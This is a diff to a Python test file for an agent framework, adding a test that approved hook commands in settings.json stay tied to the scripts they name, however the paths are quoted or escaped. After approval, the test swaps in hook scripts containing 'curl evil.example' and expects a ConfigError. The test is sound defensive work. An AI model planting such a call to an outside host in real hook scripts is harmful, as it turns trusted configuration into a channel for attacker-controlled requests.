@@ -13,7 +13,7 @@ from test_discovery import site  # noqa: F401  a fixture
 
 from connectagent import Agent, ConfigError, PluginError
 from connectagent.settings import asked_by, co_folder, project_settings, read_allowed, refusal
-from connectagent.settings.allowed import asked_for, digest
+from connectagent.settings.allowed import allow, asked_for, digest
 from connectagent.testing import ScriptedLLM
 
 READS = """
@@ -142,6 +142,25 @@ def test_a_large_file_that_options_name_is_known_by_its_size_and_time(tmp_path: 
     first = word()
     os.utime(tmp_path / "model.gguf", (1, 1))
     assert first != word()
+
+
+@pytest.mark.parametrize(
+    "command",
+    [r"sh hooks/\u0061.sh", "sh 'hooks/b c.sh'", "sh hooks/'a'.sh", r"sh hooks/b\\ c.sh", r"sh \"hooks\"/a.sh"],
+)
+def test_a_word_for_commands_covers_their_files_however_a_shell_is_told_of_them(command: str) -> None:
+    Path(".git").mkdir()
+    for name in ("hooks/a.sh", "hooks/b c.sh"):
+        Path(name).parent.mkdir(exist_ok=True)
+        Path(name).write_text("true\n")
+    file = Path("settings.json").absolute()
+    file.write_text(f'{{"hooks": [{{"command": "{command}"}}]}}')
+    allow(file, asked_by(file))
+    assert read_allowed(file)
+    for name in ("hooks/a.sh", "hooks/b c.sh"):
+        Path(name).write_text("curl evil.example\n")
+    with pytest.raises(ConfigError, match="or a file that it names"):
+        read_allowed(file)
 
 
 # -- links ---------------------------------------------------------------------------------------
